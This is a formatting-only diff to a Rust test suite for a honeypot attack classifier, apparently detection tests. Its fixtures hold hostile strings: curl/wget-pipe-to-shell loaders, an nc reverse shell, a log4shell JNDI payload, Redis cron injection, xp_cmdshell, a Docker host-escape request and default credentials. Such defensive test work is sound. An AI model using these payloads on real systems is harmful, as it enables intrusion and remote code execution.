@@ -14,7 +14,15 @@ fn engine() -> &'static Engine {
 }
 
 fn ev(p: Protocol, data: EventData) -> Event {
-    Event::new("t", Uuid::from_u128(1), p, "198.51.100.4".parse().unwrap(), 40000, p.standard_port(), data)
+    Event::new(
+        "t",
+        Uuid::from_u128(1),
+        p,
+        "198.51.100.4".parse().unwrap(),
+        40000,
+        p.standard_port(),
+        data,
+    )
 }
 
 fn login(p: Protocol, user: &str, pass: &str) -> Event {
@@ -48,7 +56,10 @@ fn http(method: &str, target: &str, headers: &[(&str, &str)], body: &str) -> Eve
         Request {
             method: Some(method.into()),
             target: Some(target.into()),
-            headers: headers.iter().map(|(k, v)| ((*k).into(), (*v).into())).collect(),
+            headers: headers
+                .iter()
+                .map(|(k, v)| ((*k).into(), (*v).into()))
+                .collect(),
             body: (!body.is_empty()).then(|| RawBytes(body.as_bytes().to_vec())),
             ..Default::default()
         },
@@ -68,7 +79,13 @@ fn redis(args: &[&str]) -> Event {
 fn sql(p: Protocol, text: &str) -> Event {
     let mut fields = BTreeMap::new();
     fields.insert("sql".to_string(), text.to_string());
-    req(p, Request { fields, ..Default::default() })
+    req(
+        p,
+        Request {
+            fields,
+            ..Default::default()
+        },
+    )
 }
 
 #[track_caller]
@@ -81,13 +98,20 @@ fn expect(events: &[Event], behavior: &str) {
         "primitives: {:?}",
         c.primitives
     );
-    assert_eq!(c, e.classify_naive(events), "compiled and naive matchers disagree");
+    assert_eq!(
+        c,
+        e.classify_naive(events),
+        "compiled and naive matchers disagree"
+    );
 }
 
 #[test]
 fn mirai_style_ssh_loader() {
     let mut s = vec![login(Protocol::Ssh, "root", "123456")];
-    s.extend(cmds(Protocol::Ssh, &["cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"]));
+    s.extend(cmds(
+        Protocol::Ssh,
+        &["cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"],
+    ));
     expect(&s, "malware-loader");
 }
 
@@ -112,8 +136,14 @@ fn mirai_telnet_loader_with_busybox_probes_and_default_creds() {
 
 #[test]
 fn default_credentials_alone() {
-    expect(&[login(Protocol::Telnet, "root", "vizxv")], "iot-default-credentials");
-    expect(&[login(Protocol::Ssh, "root", "hunter2")], "ssh-password-guessing");
+    expect(
+        &[login(Protocol::Telnet, "root", "vizxv")],
+        "iot-default-credentials",
+    );
+    expect(
+        &[login(Protocol::Ssh, "root", "hunter2")],
+        "ssh-password-guessing",
+    );
 }
 
 #[test]
@@ -148,9 +178,18 @@ fn outlaw_mdrfckr_session() {
 #[test]
 fn recon_only_and_gpu_recon() {
     let mut s = vec![login(Protocol::Ssh, "admin", "admin")];
-    s.extend(cmds(Protocol::Ssh, &["uname -a", "cat /proc/cpuinfo", "nproc", "free -m", "exit"]));
+    s.extend(cmds(
+        Protocol::Ssh,
+        &["uname -a", "cat /proc/cpuinfo", "nproc", "free -m", "exit"],
+    ));
     expect(&s, "system-discovery");
-    s.extend(cmds(Protocol::Ssh, &["nvidia-smi -q | grep \"Product Name\"", "lspci | grep -i vga"]));
+    s.extend(cmds(
+        Protocol::Ssh,
+        &[
+            "nvidia-smi -q | grep \"Product Name\"",
+            "lspci | grep -i vga",
+        ],
+    ));
     expect(&s, "gpu-reconnaissance");
 }
 
@@ -173,26 +212,45 @@ fn miner_with_cron_persistence() {
 #[test]
 fn curl_pipe_sh() {
     let mut s = vec![login(Protocol::Ssh, "ubuntu", "ubuntu")];
-    s.extend(cmds(Protocol::Ssh, &["curl -fsSL http://203.0.113.7/init.sh | sh"]));
+    s.extend(cmds(
+        Protocol::Ssh,
+        &["curl -fsSL http://203.0.113.7/init.sh | sh"],
+    ));
     expect(&s, "download-pipe-to-shell");
 }
 
 #[test]
 fn connect_only_is_a_scan() {
     for p in [Protocol::Rdp, Protocol::Mysql, Protocol::Sip] {
-        expect(&[ev(p, EventData::Connect), ev(p, EventData::Disconnect(sikker_event::Disconnect {
-            reason: "closed".into(),
-            duration_ms: 3,
-            bytes_in: 0,
-            bytes_out: 0,
-        }))], "port-scan");
+        expect(
+            &[
+                ev(p, EventData::Connect),
+                ev(
+                    p,
+                    EventData::Disconnect(sikker_event::Disconnect {
+                        reason: "closed".into(),
+                        duration_ms: 3,
+                        bytes_in: 0,
+                        bytes_out: 0,
+                    }),
+                ),
+            ],
+            "port-scan",
+        );
     }
 }
 
 #[test]
 fn unknown_command_mix_is_unclassified() {
     let mut s = vec![login(Protocol::Ssh, "root", "root")];
-    s.extend(cmds(Protocol::Ssh, &["wget http://h/x", "cat /etc/shadow", "nc -e /bin/sh 1.2.3.4 9"]));
+    s.extend(cmds(
+        Protocol::Ssh,
+        &[
+            "wget http://h/x",
+            "cat /etc/shadow",
+            "nc -e /bin/sh 1.2.3.4 9",
+        ],
+    ));
     let c = engine().classify(&s);
     assert_eq!(c.outcome, Outcome::Unclassified, "{:?}", c.primitives);
     assert!(c.primitives.contains(&"cmd-etc-shadow".to_string()));
@@ -201,7 +259,12 @@ fn unknown_command_mix_is_unclassified() {
 #[test]
 fn http_exploits() {
     expect(
-        &[http("GET", "/", &[("User-Agent", "${jndi:ldap://203.0.113.3:1389/a}")], "")],
+        &[http(
+            "GET",
+            "/",
+            &[("User-Agent", "${jndi:ldap://203.0.113.3:1389/a}")],
+            "",
+        )],
         "log4shell-exploitation",
     );
     expect(
@@ -226,9 +289,28 @@ fn http_exploits() {
         &[http("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", &[], "")],
         "thinkphp-rce",
     );
-    expect(&[http("GET", "/.env", &[("User-Agent", "python-requests/2.31")], "")], "secret-file-harvesting");
-    expect(&[http("GET", "/.git/config", &[], "")], "secret-file-harvesting");
-    expect(&[http("GET", "/", &[("User-Agent", "Mozilla/5.0 zgrab/0.x")], "")], "web-crawl");
+    expect(
+        &[http(
+            "GET",
+            "/.env",
+            &[("User-Agent", "python-requests/2.31")],
+            "",
+        )],
+        "secret-file-harvesting",
+    );
+    expect(
+        &[http("GET", "/.git/config", &[], "")],
+        "secret-file-harvesting",
+    );
+    expect(
+        &[http(
+            "GET",
+            "/",
+            &[("User-Agent", "Mozilla/5.0 zgrab/0.x")],
+            "",
+        )],
+        "web-crawl",
+    );
 }
 
 #[test]
@@ -237,7 +319,11 @@ fn redis_attacks() {
         &[
             redis(&["INFO"]),
             redis(&["FLUSHALL"]),
-            redis(&["SET", "backup1", "\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.8/cr.sh | sh\n\n"]),
+            redis(&[
+                "SET",
+                "backup1",
+                "\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.8/cr.sh | sh\n\n",
+            ]),
             redis(&["CONFIG", "SET", "dir", "/var/spool/cron/"]),
             redis(&["CONFIG", "SET", "dbfilename", "root"]),
             redis(&["SAVE"]),
@@ -259,11 +345,25 @@ fn redis_attacks() {
 #[test]
 fn databases() {
     expect(
-        &[login(Protocol::Mssql, "sa", "sa"), sql(Protocol::Mssql, "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE"), sql(Protocol::Mssql, "EXEC xp_cmdshell 'whoami'")],
+        &[
+            login(Protocol::Mssql, "sa", "sa"),
+            sql(
+                Protocol::Mssql,
+                "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
+            ),
+            sql(Protocol::Mssql, "EXEC xp_cmdshell 'whoami'"),
+        ],
         "mssql-xp-cmdshell",
     );
     expect(
-        &[login(Protocol::Postgresql, "postgres", "postgres"), sql(Protocol::Postgresql, "DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text)"), sql(Protocol::Postgresql, "COPY cmd_exec FROM PROGRAM 'id'")],
+        &[
+            login(Protocol::Postgresql, "postgres", "postgres"),
+            sql(
+                Protocol::Postgresql,
+                "DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text)",
+            ),
+            sql(Protocol::Postgresql, "COPY cmd_exec FROM PROGRAM 'id'"),
+        ],
         "postgresql-copy-from-program",
     );
     expect(
@@ -277,9 +377,31 @@ fn docker_host_mount() {
     let body = r#"{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl -s http://203.0.113.4/d.sh | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}"#;
     expect(
         &[
-            req(Protocol::Docker, Request { method: Some("GET".into()), target: Some("/v1.41/info".into()), ..Default::default() }),
-            req(Protocol::Docker, Request { method: Some("POST".into()), target: Some("/v1.41/containers/create".into()), body: Some(RawBytes(body.as_bytes().to_vec())), ..Default::default() }),
-            req(Protocol::Docker, Request { method: Some("POST".into()), target: Some("/v1.41/containers/abc/start".into()), ..Default::default() }),
+            req(
+                Protocol::Docker,
+                Request {
+                    method: Some("GET".into()),
+                    target: Some("/v1.41/info".into()),
+                    ..Default::default()
+                },
+            ),
+            req(
+                Protocol::Docker,
+                Request {
+                    method: Some("POST".into()),
+                    target: Some("/v1.41/containers/create".into()),
+                    body: Some(RawBytes(body.as_bytes().to_vec())),
+                    ..Default::default()
+                },
+            ),
+            req(
+                Protocol::Docker,
+                Request {
+                    method: Some("POST".into()),
+                    target: Some("/v1.41/containers/abc/start".into()),
+                    ..Default::default()
+                },
+            ),
         ],
         "docker-host-escape",
     );
@@ -288,22 +410,53 @@ fn docker_host_mount() {
 #[test]
 fn sip_and_friends() {
     expect(
-        &[req(Protocol::Sip, Request { method: Some("OPTIONS".into()), target: Some("sip:100@192.0.2.1".into()), headers: vec![("User-Agent".into(), "friendly-scanner".into())], ..Default::default() })],
+        &[req(
+            Protocol::Sip,
+            Request {
+                method: Some("OPTIONS".into()),
+                target: Some("sip:100@192.0.2.1".into()),
+                headers: vec![("User-Agent".into(), "friendly-scanner".into())],
+                ..Default::default()
+            },
+        )],
         "sipvicious-scan",
     );
     let mut share = BTreeMap::new();
     share.insert("share".to_string(), "\\\\192.0.2.1\\ADMIN$".to_string());
     expect(
         &[
-            req(Protocol::Smb, Request { method: Some("negotiate".into()), ..Default::default() }),
+            req(
+                Protocol::Smb,
+                Request {
+                    method: Some("negotiate".into()),
+                    ..Default::default()
+                },
+            ),
             login(Protocol::Smb, "administrator", "P@ssw0rd"),
-            req(Protocol::Smb, Request { method: Some("tree_connect".into()), fields: share, ..Default::default() }),
+            req(
+                Protocol::Smb,
+                Request {
+                    method: Some("tree_connect".into()),
+                    fields: share,
+                    ..Default::default()
+                },
+            ),
         ],
         "smb-admin-share-access",
     );
-    expect(&[login(Protocol::Rdp, "administrator", "123")], "rdp-password-guessing");
     expect(
-        &[ev(Protocol::Ssh, EventData::Download(Transfer { url: Some("http://203.0.113.6/a.pl".into()), tool: Some("wget".into()), ..Default::default() }))],
+        &[login(Protocol::Rdp, "administrator", "123")],
+        "rdp-password-guessing",
+    );
+    expect(
+        &[ev(
+            Protocol::Ssh,
+            EventData::Download(Transfer {
+                url: Some("http://203.0.113.6/a.pl".into()),
+                tool: Some("wget".into()),
+                ..Default::default()
+            }),
+        )],
         "perl-ircbot-dropper",
     );
 }
